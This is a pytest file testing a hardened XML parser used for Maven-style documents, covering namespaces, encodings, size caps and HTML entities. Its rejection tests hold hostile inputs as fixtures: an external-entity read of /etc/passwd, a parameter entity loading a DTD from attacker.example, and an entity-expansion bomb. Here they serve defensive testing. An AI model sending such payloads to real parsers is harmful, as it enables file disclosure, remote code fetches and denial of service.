import pytest

from resolution import xml
from resolution.errors import MalformedDocument, TooLarge


def test_it_reads_names_and_text_whatever_the_namespace() -> None:
    root = xml.parse(b'<p xmlns="urn:x"><v> 1.<!-- why -->0 </v><v>2</v></p>')
    assert (xml.name(root), xml.text(root, "v"), [xml.text(v) for v in xml.children(root, "v")]) == (
        "p",
        "1.0",
        ["1.0", "2"],
    )


def test_it_gives_nothing_for_what_is_not_there() -> None:
    root = xml.parse(b"<p/>")
    assert (xml.child(root, "x"), xml.text(root, "x"), list(xml.children(None, "x"))) == (None, "", [])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "windows-1252"])
def test_it_reads_common_encodings(encoding: str) -> None:
    document = f"<?xml version='1.0' encoding='{encoding}'?><p>Laugstøl</p>"
    assert xml.text(xml.parse(document.encode(encoding))) == "Laugstøl"


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"<a>",
        b"\x00",
        b"<a>\xff</a>",
        b"<!DOCTYPE a><a/>",
        b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
        b"<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>",
        b"<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><r/>",
        b"<a>&undefined;</a>",
        b"<?xml version='1.0' encoding='UTF-7'?><r/>",
        b"<?xml version='1.0' encoding='no-such'?><r/>",
        b"<a>" * 200_000,
        b'{"json": true}',
    ],
)
def test_it_refuses_what_is_not_safe_xml(document: bytes) -> None:
    with pytest.raises(MalformedDocument):
        xml.parse(document)


def test_it_refuses_an_entity_bomb_without_blowing_up() -> None:
    bomb = b"<!DOCTYPE b [<!ENTITY a '" + b"x" * 100_000 + b"'>]><b>" + b"&a;" * 10_000 + b"</b>"
    with pytest.raises(MalformedDocument):
        xml.parse(bomb)


def test_it_caps_the_size() -> None:
    with pytest.raises(TooLarge):
        xml.parse(b"<a/>", limit=3)


def test_it_reads_html_entities_only_when_asked() -> None:
    assert xml.text(xml.parse(b"<a>&oslash; &amp; &lt;</a>", as_maven=True)) == "ø & <"


def test_it_reads_prefixes_of_no_namespace_where_maven_does() -> None:
    body = b'<a xmlns:xsi="no address"><X:all/><X:-no/><b x:c="1">d</b></a>'
    assert xml.text(xml.parse(body, as_maven=True), "b") == "d"
    with pytest.raises(MalformedDocument):
        xml.parse(body)


@pytest.mark.parametrize(
    "body",
    [
        b"<a><X:b></a>",
        b"<a><X:b/>",
        b"<a>" + b"<X:b/>" * 200 + b"<c></a>",
        b"<a x='1' x='2'><X:b/></a>",
        b"<!DOCTYPE a><a><X:b/></a>",
    ],
)
def test_nothing_else_may_be_wrong_with_them(body: bytes) -> None:
    with pytest.raises(MalformedDocument):
        xml.parse(body, as_maven=True)
